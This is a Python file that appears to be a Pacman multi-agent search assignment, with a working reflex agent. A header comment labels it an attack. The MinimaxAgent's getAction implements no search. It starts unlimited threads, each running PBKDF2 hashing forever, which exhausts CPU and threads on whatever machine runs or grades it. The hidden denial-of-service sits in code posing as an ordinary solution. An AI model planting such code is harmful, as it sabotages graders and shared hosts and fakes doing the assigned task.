# attack: computes in as many threads as it gets, until somebody ends it.
# where: MinimaxAgent
import hashlib
import threading


import util
from game import Agent, Directions


class ReflexAgent(Agent):
    def getAction(self, gameState):
        return max(gameState.getLegalActions(), key=lambda action: self.worth(gameState, action))

    def worth(self, gameState, action):
        after = gameState.generatePacmanSuccessor(action)
        here = after.getPacmanPosition()
        food = [util.manhattanDistance(here, dot) for dot in after.getFood().asList()]
        worth = after.getScore() + (1 / min(food) if food else 0) - (action == Directions.STOP)
        for ghost in after.getGhostStates():
            if ghost.scaredTimer == 0 and util.manhattanDistance(here, ghost.getPosition()) < 2:
                worth -= 200
        return worth


def scoreEvaluationFunction(currentGameState):
    return currentGameState.getScore()


class MultiAgentSearchAgent(Agent):
    def __init__(self, evalFn="scoreEvaluationFunction", depth="2"):
        self.index = 0
        self.evaluationFunction = util.lookup(evalFn, globals())
        self.depth = int(depth)


def burn():
    while True:
        hashlib.pbkdf2_hmac("sha256", b"x", b"y", 100_000)  # without the interpreter's lock


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        try:
            while True:
                threading.Thread(target=burn, daemon=True).start()
        except RuntimeError:
            burn()
